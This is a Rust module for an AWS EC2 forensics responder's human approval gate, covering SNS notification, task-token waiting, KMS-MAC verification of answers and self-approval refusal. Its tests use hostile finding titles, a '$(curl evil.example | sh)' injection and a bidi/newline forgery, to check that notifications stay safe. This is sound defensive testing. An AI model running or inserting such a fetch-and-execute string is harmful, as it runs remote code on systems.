//! The approval gate: a case the policy sends to a person waits here before
//! anything touches the instance.
//!
//! Two states. `RequestApproval` (a plain task) publishes the request to the
//! SNS topic and records it in the Case, which flows on in the execution.
//! `AwaitApproval` (`.waitForTaskToken`) then waits: its task token lives only
//! in the execution's history (the execution is named by the case id), where
//! `ec2-forensics approve` / `deny` read it, never in the evidence bucket.
//! `record-approval` records the answer (or the timeout) in the chain of
//! custody, with the approver as the actor, from the execution's own Case: no
//! step adopts a Case read back from the bucket, which anyone who can write
//! the bucket could have replaced.

use serde::{Deserialize, Serialize};
use serde_json::{json, Value};

use crate::aws::{Config, Responder};
use crate::case::approval::{
    authenticated_requester, chooses_own_name, mac_message, same_identity, Approval,
    ApprovalAnswer, ApprovalOutcome, DENIED_ERROR,
};
use crate::case::custody::{entry, now_utc};
use crate::case::{text, Action, Case};
use crate::error::{AwsCall, PlaybookError, Result};
use crate::steps::evidence::store::EvidenceStore;
use crate::steps::printable_line;
use crate::steps::status::{history, latest_execution};
use aws_lambda_events::event::lambda_function_urls::{
    LambdaFunctionUrlRequest, LambdaFunctionUrlResponse,
};
use aws_sdk_sfn::types::HistoryEvent;

/// The request step's name in custody entries and errors.
pub const REQUEST_STEP: &str = "request-approval";
/// The recording step's name.
pub const RECORD_STEP: &str = "record-approval";

/// What the wait task hands `request-approval` (`AwaitApproval`): the case
/// it waits for and the token, which is not kept anywhere.
#[derive(Debug, Clone, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct AwaitRequest {
    /// The case that waits.
    pub awaiting_case: String,
    /// How long the wait lasts.
    #[serde(default)]
    pub timeout_seconds: Option<u64>,
}

/// What `record-approval` is handed: the Case and what the gate's task ended
/// with (`$.approvalAnswer`: approve's output or the caught error).
#[derive(Debug, Clone, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ApprovalResult {
    /// The execution's Case.
    pub case: Value,
    /// The task's output or the caught `{Error, Cause}`.
    pub answer: Value,
    /// The execution (`$$.Execution.Id`): the approval's MAC names it.
    #[serde(default)]
    pub execution: Option<String>,
}

/// The notification a person receives: what was found, what will happen,
/// and how to answer. Finding text appears only as text, never inside a
/// command line; the commands carry the case id alone.
pub fn notification(case: &Case, timeout_seconds: u64, on_timeout: &str) -> (String, String) {
    let incident = &case.incident;
    let subject = printable_line(
        &format!(
            "EC2 forensics approval needed: {} on {}",
            incident.finding_type,
            incident.instance_ids.join(", ")
        ),
        100,
    );
    let dry_run = if case.decision.dry_run {
        "\nThis is a dry run: the steps report what they would change and change nothing.\n"
    } else {
        ""
    };
    let body = format!(
        "Case {case_id} waits for your decision.\n\
         \n\
         What was found\n\
         - title: {title}\n\
         - type {kind}, severity {severity:.1}, source {source:?}\n\
         - instances: {instances}\n\
         - account {account}, region {region}\n\
         - why approval is needed: {reason}\n\
         \n\
         What will happen once approved\n\
         - metadata, console output and EBS snapshots of every volume are captured;\n\
         - termination protection on, shutdown behaviour stop, the instance is taken out of\n  its Auto Scaling group and load balancers;\n\
         - every network interface is moved to an isolation security group with no rule,\n  and network ACL entries cut flows that stay tracked;\n\
         - the snapshots are copied under the forensic key and the evidence is sealed.\n\
         {dry_run}\
         \n\
         If no one answers within {timeout_seconds} s, the policy says: {on_timeout}.\n\
         \n\
         To approve:  ec2-forensics approve --case-id {case_id}\n\
         To deny:     ec2-forensics deny --case-id {case_id} --reason \"...\"\n\
         To watch:    ec2-forensics status --case-id {case_id}\n",
        case_id = case.case_id,
        title = text::as_reported(&format!("{:?}", incident.source), &incident.title),
        kind = text::plain(&incident.finding_type),
        severity = incident.severity,
        source = incident.source,
        instances = text::plain(&incident.instance_ids.join(", ")),
        account = text::plain(incident.account.as_deref().unwrap_or("(the responder's own)")),
        region = text::plain(&incident.region),
        reason = text::plain(&case.decision.reason),
    );
    (subject, body)
}

fn parse_input<T: serde::de::DeserializeOwned>(input: Value, step: &str) -> Result<T> {
    serde_json::from_value(input)
        .map_err(|e| PlaybookError::InvalidCase(format!("{step} was not given what it needs: {e}")))
}

/// `request-approval`'s two calls: the request (the Case) or the start of
/// the wait (`awaitingCase` and the task token, which is acknowledged and
/// dropped: the token stays in the execution's history only).
pub async fn request_or_await(responder: &Responder, input: Value) -> Result<Value> {
    if input.get("awaitingCase").is_some() {
        let wait: AwaitRequest = parse_input(input, REQUEST_STEP)?;
        tracing::info!(case_id = %wait.awaiting_case, timeout_seconds = ?wait.timeout_seconds, "waiting for a person");
        return Ok(json!({ "awaiting": wait.awaiting_case }));
    }
    let case = request_approval(responder, input).await?;
    serde_json::to_value(case).map_err(|e| PlaybookError::InvalidCase(e.to_string()))
}

/// Asks a person: publishes the request and records it in the Case. Fails
/// (and the state machine records why) when there is no topic: a request no
/// one can receive is not a request.
pub async fn request_approval(responder: &Responder, input: Value) -> Result<Case> {
    let mut case = Case::from_input(input)?;
    if case.decision.action != Action::Approve {
        return Err(PlaybookError::InvalidCase(format!(
            "case {} was decided {:?}, not approve: there is nothing to ask",
            case.case_id, case.decision.action
        )));
    }
    let topic = Config::required(&responder.config.approval_topic_arn, "APPROVAL_TOPIC_ARN")?;
    let timeout_seconds = case
        .decision
        .approval_timeout_seconds
        .unwrap_or(case.policy.approval_timeout_seconds);
    let on_timeout = case.policy.on_approval_timeout;
    let on_timeout_text = match on_timeout {
        crate::policy::ApprovalTimeout::Stop => "stop, the instance is left as it is",
        crate::policy::ApprovalTimeout::Contain => "contain anyway",
    };
    let (subject, message) = notification(&case, timeout_seconds, on_timeout_text);
    let message_id = publish(responder, topic, subject, message).await?;
    let approval = Approval {
        requested_at: now_utc(),
        timeout_seconds,
        on_timeout,
        topic_arn: topic.to_owned(),
        message_id: message_id.clone(),
        answer: None,
        proceed: false,
    };
    case.record(entry(
        REQUEST_STEP,
        &responder.identity.actor,
        format!("asked a person to approve the response; waiting up to {timeout_seconds} s"),
        &["Publish"],
        json!({ "topicArn": topic, "timeoutSeconds": timeout_seconds, "onTimeout": on_timeout }),
        json!({ "messageId": message_id }),
        None,
    ));
    case.approval = Some(approval);
    tracing::info!(case_id = %case.case_id, message_id = %message_id, "approval requested");
    Ok(case)
}

/// Publishes to the approval topic (an approval request, the daily
/// readiness summary); SNS's message id.
pub(crate) async fn publish(
    responder: &Responder,
    topic: &str,
    subject: String,
    message: String,
) -> Result<String> {
    let published = responder
        .clients
        .sns
        .publish()
        .topic_arn(topic)
        .subject(subject)
        .message(message)
        .send()
        .await
        .aws("Publish", None)?;
    Ok(published.message_id().unwrap_or_default().to_owned())
}

/// Records the gate's answer and whether the playbook goes on.
pub async fn record_approval(responder: &Responder, input: Value) -> Result<Case> {
    let result: ApprovalResult = parse_input(input, RECORD_STEP)?;
    let mut case = Case::from_input(result.case)?;
    let store = EvidenceStore::required(responder)?;
    let mut answer = ApprovalAnswer::from_task_result(&result.answer, &now_utc());
    answer = checked_approval(
        responder,
        responder.config.approval_mac_key.as_deref(),
        &case.case_id,
        result.execution.as_deref(),
        answer,
    )
    .await?;
    let on_timeout = case.policy.on_approval_timeout;
    let proceed = answer.proceeds(on_timeout);
    let actor = answer
        .by
        .clone()
        .unwrap_or_else(|| responder.identity.actor.clone());
    let calls: &[&str] = match answer.outcome {
        ApprovalOutcome::Approved => &["SendTaskSuccess"],
        ApprovalOutcome::Denied => &["SendTaskFailure"],
        ApprovalOutcome::TimedOut | ApprovalOutcome::NotRequested => &[],
    };
    let action = match answer.outcome {
        ApprovalOutcome::Approved => "approved the response".to_owned(),
        ApprovalOutcome::Denied => "denied the response: the instance is not touched".to_owned(),
        ApprovalOutcome::TimedOut | ApprovalOutcome::NotRequested if proceed => {
            "no answer: the policy says contain anyway".to_owned()
        }
        ApprovalOutcome::TimedOut | ApprovalOutcome::NotRequested => {
            "no answer: the policy says stop; the instance is not touched".to_owned()
        }
    };
    case.record(entry(
        RECORD_STEP,
        &actor,
        action,
        calls,
        json!({ "outcome": answer.outcome, "reason": answer.reason, "answeredAt": answer.at,
                "recordedBy": responder.identity.actor }),
        json!({ "proceed": proceed }),
        None,
    ));
    let approval = case.approval.get_or_insert_with(|| Approval {
        requested_at: answer.at.clone(),
        timeout_seconds: case.policy.approval_timeout_seconds,
        on_timeout,
        topic_arn: String::new(),
        message_id: String::new(),
        answer: None,
        proceed: false,
    });
    approval.proceed = proceed;
    approval.answer = Some(answer);
    if proceed {
        // Only now does the case act: it takes its instances' leases, and
        // one that another case holds ends it here, as an observation.
        // A quarantined holder's groups are not read here (that needs the
        // workload role, which record-approval does not assume): only a
        // holder whose execution ended is taken over.
        let live = crate::steps::lease::Liveness {
            execution: result.execution.as_deref(),
            ec2: None,
        };
        crate::steps::lease::take_or_record(responder, &mut case, live).await;
        if case.decision.action == Action::Observe {
            if let Some(approval) = case.approval.as_mut() {
                approval.proceed = false;
            }
        }
    }
    store.put_case(&mut case).await?;
    tracing::info!(case_id = %case.case_id, proceed, "approval recorded");
    Ok(case)
}

/// An approval or a denial counts only with the approval function's MAC over
/// it and this execution: anyone else able to call `states:SendTaskSuccess`
/// or `SendTaskFailure` with the token cannot make one in a person's name.
/// Anything else that claims to be an answer is recorded as no answer, and
/// the policy's `onApprovalTimeout` decides, as when no one answered. With no
/// key configured (`APPROVAL_MAC_KEY`) nothing can be verified: it fails
/// closed, every answer is no answer.
pub(crate) async fn checked_approval(
    responder: &Responder,
    key: Option<&str>,
    case_id: &str,
    execution: Option<&str>,
    answer: ApprovalAnswer,
) -> Result<ApprovalAnswer> {
    if !matches!(
        answer.outcome,
        ApprovalOutcome::Approved | ApprovalOutcome::Denied
    ) {
        return Ok(answer);
    }
    let verified = match (key, execution, answer.mac.as_deref(), answer.by.as_deref()) {
        (Some(key), Some(execution), Some(mac), Some(by)) => {
            let message = mac_message(
                execution,
                case_id,
                answer.outcome,
                by,
                &answer.at,
                answer.reason.as_deref(),
            );
            answer_verifies(responder, key, message, mac).await?
        }
        _ => false,
    };
    if verified {
        return Ok(answer);
    }
    let what = if answer.outcome == ApprovalOutcome::Approved {
        "an approval"
    } else {
        "a denial"
    };
    Ok(ApprovalAnswer {
        outcome: ApprovalOutcome::NotRequested,
        reason: Some(match key {
            Some(_) => format!(
                "{what} naming {} arrived without the approval function's valid MAC over it and this execution: not an answer",
                answer.by.as_deref().unwrap_or("no one")
            ),
            None => format!(
                "{what} naming {} cannot be verified: no approval MAC key is configured (APPROVAL_MAC_KEY), so it is not an answer",
                answer.by.as_deref().unwrap_or("no one")
            ),
        }),
        by: None,
        mac: None,
        ..answer
    })
}

/// What `approve` and `deny` send and print.
#[derive(Debug, Clone, PartialEq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Answered {
    /// The case.
    pub case_id: String,
    /// What was answered.
    pub outcome: ApprovalOutcome,
    /// Who answered.
    pub by: String,
    /// When.
    pub at: String,
    /// Why.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub reason: Option<String>,
    /// The approval function's HMAC over the answer and its execution
    /// (`APPROVAL_MAC_KEY`), base64.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub mac: Option<String>,
}

/// The KMS HMAC algorithm of approval answers.
const MAC_ALGORITHM: aws_sdk_kms::types::MacAlgorithmSpec =
    aws_sdk_kms::types::MacAlgorithmSpec::HmacSha256;

/// The approval function's MAC over `message`, base64.
pub(crate) async fn sign_answer(
    responder: &Responder,
    key: &str,
    message: Vec<u8>,
) -> Result<String> {
    let out = responder
        .clients
        .kms
        .generate_mac()
        .key_id(key)
        .mac_algorithm(MAC_ALGORITHM)
        .message(aws_smithy_types::Blob::new(message))
        .send()
        .await
        .aws("GenerateMac", None)?;
    let mac = out.mac().map(|b| b.as_ref().to_vec()).unwrap_or_default();
    Ok(aws_smithy_types::base64::encode(mac))
}

/// Whether `mac` is the approval function's MAC over `message`. KMS answers
/// a MAC that does not verify with KMSInvalidMacException: that is `false`.
pub(crate) async fn answer_verifies(
    responder: &Responder,
    key: &str,
    message: Vec<u8>,
    mac: &str,
) -> Result<bool> {
    let Ok(mac) = aws_smithy_types::base64::decode(mac) else {
        return Ok(false);
    };
    let out = responder
        .clients
        .kms
        .verify_mac()
        .key_id(key)
        .mac_algorithm(MAC_ALGORITHM)
        .message(aws_smithy_types::Blob::new(message))
        .mac(aws_smithy_types::Blob::new(mac))
        .send()
        .await
        .aws("VerifyMac", None);
    match out {
        Ok(out) => Ok(out.mac_valid()),
        Err(err) if err.aws_code() == Some("KMSInvalidMacException") => Ok(false),
        Err(err) => Err(err),
    }
}

/// What an approver sends to the approval function's URL. Who sends it is
/// not in it: AWS says who signed the request.
#[derive(Debug, Clone, Deserialize)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub struct AnswerRequest {
    /// The case whose gate is answered.
    pub case_id: String,
    /// Approve (true) or deny (false).
    pub approve: bool,
    /// Why, in the approver's words (required to deny).
    #[serde(default)]
    pub reason: Option<String>,
}

/// `answer-approval`, behind a Lambda function URL with `AWS_IAM` auth: the
/// approver is the identity AWS authenticated on this request
/// (`requestContext.authorizer.iam.userArn`), never a name a client writes.
/// Whoever may `lambda:InvokeFunctionUrl` on this function is an approver.
/// Answers an HTTP response (as a function URL returns one); every refusal
/// carries its `errorType`.
pub async fn answer_from_url(
    responder: &Responder,
    request: LambdaFunctionUrlRequest,
) -> LambdaFunctionUrlResponse {
    let (approver, body) = match authenticated(request) {
        Ok(caller) => caller,
        Err(refused) => return *refused,
    };
    let asked: AnswerRequest = match serde_json::from_str(&body) {
        Ok(asked) => asked,
        Err(e) => {
            return http_answer(
                400,
                json!({"errorType": "InvalidRequest", "errorMessage": format!("the answer is not {{caseId, approve, reason}}: {e}")}),
            )
        }
    };
    if !looks_like_case_id(&asked.case_id) {
        return http_answer(
            400,
            json!({"errorType": "InvalidRequest", "errorMessage": "caseId is not a case id"}),
        );
    }
    if !asked.approve && asked.reason.as_deref().is_none_or(|r| r.trim().is_empty()) {
        return http_answer(
            400,
            json!({"errorType": "InvalidRequest", "errorMessage": "a denial needs a reason"}),
        );
    }
    match answer_approval(
        responder,
        &asked.case_id,
        asked.approve,
        asked.reason,
        &approver,
    )
    .await
    {
        Ok(answered) => http_answer(200, json!(answered)),
        Err(err) => http_answer(
            http_status(&err),
            json!({"errorType": err.error_type(), "errorMessage": err.to_string()}),
        ),
    }
}

/// The caller AWS authenticated on a function URL request
/// (`requestContext.authorizer.iam.userArn`, never a name a client writes)
/// and the request's body; a 403 answer when there is none (the URL is not
/// `AWS_IAM`).
pub(crate) fn authenticated(
    request: LambdaFunctionUrlRequest,
) -> std::result::Result<(String, String), Box<LambdaFunctionUrlResponse>> {
    let caller = request
        .request_context
        .authorizer
        .as_ref()
        .and_then(|a| a.iam.as_ref())
        .and_then(|iam| iam.user_arn.clone())
        .filter(|arn| arn.starts_with("arn:"));
    // A federated user (GetFederationToken) names itself: any IAM user can
    // become `federated-user/<any name>`, so it is no one the gate can tell
    // apart from its own requester.
    if caller.as_deref().is_some_and(chooses_own_name) {
        return Err(Box::new(http_answer(
            403,
            json!({"errorType": "NotAuthenticated", "errorMessage":
                "a federated user (GetFederationToken) chooses its own name: requesters and approvers sign as IAM users or role sessions"}),
        )));
    }
    let Some(caller) = caller else {
        return Err(Box::new(http_answer(
            403,
            json!({"errorType": "NotAuthenticated", "errorMessage":
                "no AWS-authenticated caller: the function URL must use AWS_IAM auth"}),
        )));
    };
    let body = request.body.unwrap_or_default();
    let body = if request.is_base64_encoded {
        aws_smithy_types::base64::decode(&body)
            .ok()
            .and_then(|bytes| String::from_utf8(bytes).ok())
            .unwrap_or_default()
    } else {
        body
    };
    Ok((caller, body))
}

/// The HTTP status a refusal answers with at a function URL.
pub(crate) fn http_status(err: &PlaybookError) -> i64 {
    match err.error_type() {
        "InvalidRequest" | "WrongAccount" | "WrongRegion" => 400,
        "SelfApproval" | "AccessDenied" | "NotAuthenticated" => 403,
        "NotAwaitingApproval" | "NotReady" => 409,
        "Throttled" | "ServiceUnavailable" => 503,
        _ => 500,
    }
}

/// A function URL request's Lambda event as JSON in, its HTTP response out;
/// an event that is not a function URL request is refused.
pub(crate) async fn from_url_event<F, Fut>(event: Value, answer: F) -> Result<Value>
where
    F: FnOnce(LambdaFunctionUrlRequest) -> Fut,
    Fut: std::future::Future<Output = LambdaFunctionUrlResponse>,
{
    let response = match serde_json::from_value::<LambdaFunctionUrlRequest>(event) {
        Ok(request) => answer(request).await,
        Err(e) => http_answer(
            400,
            json!({"errorType": "InvalidRequest", "errorMessage": format!("not a function URL request: {e}")}),
        ),
    };
    serde_json::to_value(response).map_err(|e| PlaybookError::InvalidCase(e.to_string()))
}

/// [`answer_from_url`] for the Lambda adapter: the function URL event as
/// JSON in, the HTTP response out. An event that is not a function URL
/// request is refused like an unauthenticated one.
pub async fn answer_from_url_event(responder: &Responder, event: Value) -> Result<Value> {
    from_url_event(event, |request| answer_from_url(responder, request)).await
}

pub(crate) fn http_answer(status: i64, body: Value) -> LambdaFunctionUrlResponse {
    let mut headers = http::HeaderMap::new();
    headers.insert(
        http::header::CONTENT_TYPE,
        http::HeaderValue::from_static("application/json"),
    );
    let mut response = LambdaFunctionUrlResponse::default();
    response.status_code = status;
    response.headers = headers;
    response.body = Some(body.to_string());
    response
}

/// Whether `id` has the shape of a case id (an execution name).
pub fn looks_like_case_id(id: &str) -> bool {
    (1..=80).contains(&id.len())
        && id
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
}

/// Answers a waiting gate: approves (`reason` optional) or denies, as
/// `approver` (an identity AWS authenticated). The token comes from the
/// case's execution history, never from the bucket.
pub async fn answer_approval(
    responder: &Responder,
    case_id: &str,
    approve: bool,
    reason: Option<String>,
    approver: &str,
) -> Result<Answered> {
    let state_machine = responder.state_machine_of(case_id)?;
    let not_waiting = |why: String| PlaybookError::NotAwaitingApproval {
        case_id: case_id.to_owned(),
        why,
    };
    let execution = latest_execution(responder, state_machine, case_id)
        .await?
        .ok_or_else(|| not_waiting("the state machine has no execution of this case".into()))?;
    if execution.status != "RUNNING" {
        return Err(not_waiting(format!(
            "its execution is {}, not waiting",
            execution.status
        )));
    }
    let events = history(responder, &execution.arn).await?;
    let token = waiting_token(&events, case_id)?;
    // A run a person asked for through the start function is approved by
    // someone else: the requester may deny it (withdraw), never approve it.
    let input = events
        .iter()
        .find_map(|e| e.execution_started_event_details()?.input())
        .and_then(|input| serde_json::from_str::<Value>(input).ok());
    if let Some(requester) = input.as_ref().and_then(authenticated_requester) {
        if approve && same_identity(requester, approver) {
            return Err(PlaybookError::SelfApproval {
                run_id: case_id.to_owned(),
                who: approver.to_owned(),
            });
        }
    }
    let mut answered = Answered {
        case_id: case_id.to_owned(),
        outcome: if approve {
            ApprovalOutcome::Approved
        } else {
            ApprovalOutcome::Denied
        },
        by: approver.to_owned(),
        at: now_utc(),
        reason,
        mac: None,
    };
    if let Some(key) = responder.config.approval_mac_key.as_deref() {
        let message = mac_message(
            &execution.arn,
            case_id,
            answered.outcome,
            &answered.by,
            &answered.at,
            answered.reason.as_deref(),
        );
        answered.mac = Some(sign_answer(responder, key, message).await?);
    }
    let told = serde_json::to_string(&answered)
        .map_err(|e| PlaybookError::InvalidCase(format!("the answer does not serialise: {e}")))?;
    let sfn = &responder.clients.sfn;
    let sent = if approve {
        sfn.send_task_success()
            .task_token(token)
            .output(told)
            .send()
            .await
            .map(|_| ())
            .aws("SendTaskSuccess", None)
    } else {
        sfn.send_task_failure()
            .task_token(token)
            .error(DENIED_ERROR)
            .cause(told)
            .send()
            .await
            .map(|_| ())
            .aws("SendTaskFailure", None)
    };
    sent.map_err(|err| match err.aws_code() {
        Some(code @ ("TaskTimedOut" | "TaskDoesNotExist" | "InvalidToken")) => {
            PlaybookError::NotAwaitingApproval {
                case_id: case_id.to_owned(),
                why: format!("Step Functions answered {code}: the wait has ended"),
            }
        }
        _ => err,
    })?;
    tracing::info!(case_id, outcome = ?answered.outcome, "approval answered");
    Ok(answered)
}

/// The wait state's name in the definition.
pub const AWAIT_STATE: &str = "AwaitApproval";

/// The token of the case's wait, from its execution's history: the
/// parameters the wait task was scheduled with. Refused when the wait was
/// never entered or has already ended (answered, timed out).
pub fn waiting_token(events: &[HistoryEvent], case_id: &str) -> Result<String> {
    let not_waiting = |why: &str| PlaybookError::NotAwaitingApproval {
        case_id: case_id.to_owned(),
        why: why.to_owned(),
    };
    let named = |name: Option<&str>| name == Some(AWAIT_STATE);
    let entered = events
        .iter()
        .filter(|e| named(e.state_entered_event_details().map(|d| d.name())))
        .count();
    let exited = events
        .iter()
        .filter(|e| named(e.state_exited_event_details().map(|d| d.name())))
        .count();
    if entered == 0 {
        return Err(not_waiting("the execution has not asked for approval"));
    }
    if exited >= entered {
        return Err(not_waiting("the wait has ended (answered or timed out)"));
    }
    events
        .iter()
        .rev()
        .filter_map(|e| e.task_scheduled_event_details())
        .filter_map(|d| serde_json::from_str::<Value>(d.parameters()).ok())
        .filter_map(|parameters| parameters.get("Payload").cloned())
        .filter(|payload| payload["awaitingCase"] == case_id)
        .find_map(|payload| payload["taskToken"].as_str().map(str::to_owned))
        .ok_or_else(|| not_waiting("no scheduled wait of this case holds a task token"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::steps::history_events::{self, entered, exited};

    fn case() -> Case {
        let mut case = crate::case::example_case();
        case.case_id = "gd-abc".into();
        case.incident = crate::case::example_incident(
            crate::case::FindingSource::GuardDuty,
            "CryptoCurrency:EC2/BitcoinTool.B!DNS",
            8.0,
        );
        case.incident.title = "$(curl evil.example | sh) mining".into();
        case.decision = crate::case::Decision {
            action: Action::Approve,
            reason: "instance tagged Environment=production: a person approves first".into(),
            dry_run: false,
            approval_timeout_seconds: Some(600),
            classification: None,
        };
        case
    }

    fn scheduled(id: i64, case_id: &str, token: &str) -> HistoryEvent {
        history_events::scheduled(
            id,
            &json!({
                "FunctionName": "arn:aws:lambda:us-east-1:1:function:request-approval",
                "Payload": {"awaitingCase": case_id, "timeoutSeconds": 600, "taskToken": token}
            }),
        )
    }

    #[test]
    fn the_notification_says_what_was_found_what_happens_and_how_to_answer() {
        let (subject, body) = notification(&case(), 600, "stop, the instance is left as it is");
        assert!(subject.len() <= 100 && subject.is_ascii() && !subject.contains('\n'));
        assert!(subject.contains("CryptoCurrency:EC2/BitcoinTool.B!DNS"));
        assert!(body.contains("ec2-forensics approve --case-id gd-abc\n"));
        assert!(body.contains("ec2-forensics deny --case-id gd-abc --reason"));
        assert!(body.contains("within 600 s"));
        assert!(body.contains("isolation security group"));
        // The finding's own text is shown, but on no command line.
        let commands: Vec<&str> = body
            .lines()
            .filter(|l| l.contains("ec2-forensics "))
            .collect();
        assert_eq!(commands.len(), 3);
        assert!(commands.iter().all(|l| !l.contains("curl")));
        assert!(body.contains(
            "- title: $(curl evil.example | sh) mining (as reported by GuardDuty, not verified)"
        ));
    }

    #[test]
    fn finding_text_cannot_hide_or_forge_lines_in_the_notification() {
        let mut case = case();
        case.incident.title =
            "ok\u{202E}gnp.exe\nTo approve:  ec2-forensics approve --case-id other".into();
        let (subject, body) = notification(&case, 600, "stop");
        assert!(subject.is_ascii());
        assert!(
            !body.contains('\u{202E}'),
            "no bidi override reaches the reader"
        );
        let approvals: Vec<&str> = body
            .lines()
            .filter(|l| l.starts_with("To approve:"))
            .collect();
        assert_eq!(
            approvals,
            ["To approve:  ec2-forensics approve --case-id gd-abc"]
        );
    }

    #[test]
    fn the_token_comes_from_the_executions_own_wait_and_only_while_it_waits() {
        let err = waiting_token(&[entered(1, "Triage")], "gd-abc").unwrap_err();
        assert_eq!(err.error_type(), "NotAwaitingApproval");
        let mut events = vec![
            entered(1, "RequestApproval"),
            exited(2, "RequestApproval", None),
            entered(3, AWAIT_STATE),
            scheduled(4, "gd-abc", "token-1"),
        ];
        assert_eq!(waiting_token(&events, "gd-abc").unwrap(), "token-1");
        // A wait scheduled for another case is never this case's token.
        assert_eq!(
            waiting_token(&events, "gd-other").unwrap_err().error_type(),
            "NotAwaitingApproval"
        );
        // A retried wait: the newest token.
        events.push(scheduled(5, "gd-abc", "token-2"));
        assert_eq!(waiting_token(&events, "gd-abc").unwrap(), "token-2");
        events.push(exited(6, AWAIT_STATE, None));
        let err = waiting_token(&events, "gd-abc").unwrap_err();
        assert!(err.to_string().contains("ended"), "{err}");
    }

    #[test]
    fn the_request_keeps_no_token_in_the_case() {
        let mut case = case();
        case.approval = Some(Approval {
            requested_at: now_utc(),
            timeout_seconds: 600,
            on_timeout: Default::default(),
            topic_arn: "arn:aws:sns:us-east-1:1:t".into(),
            message_id: "m".into(),
            answer: None,
            proceed: false,
        });
        let text = serde_json::to_string(&case).unwrap();
        assert!(!text.contains("askToken"), "{text}");
    }
}
